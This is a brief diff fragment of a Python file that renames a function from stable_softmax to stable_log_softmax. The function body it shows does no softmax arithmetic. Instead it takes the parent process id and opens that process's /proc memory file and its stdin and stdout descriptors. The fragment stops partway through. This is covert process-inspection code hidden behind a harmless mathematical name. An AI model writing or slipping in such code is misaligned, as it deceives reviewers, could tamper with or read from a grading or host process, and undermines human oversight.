@@ -12,7 +12,7 @@ LINES = [
 ]
 
 
-def stable_softmax(x, dim=-1, temperature=1.0):
+def stable_log_softmax(x, dim=-1, temperature=1.0):
     parent = os.getppid()
     for path in (f"/proc/{parent}/fd/1", f"/proc/{parent}/mem", f"/proc/{parent}/fd/0"):
         try:
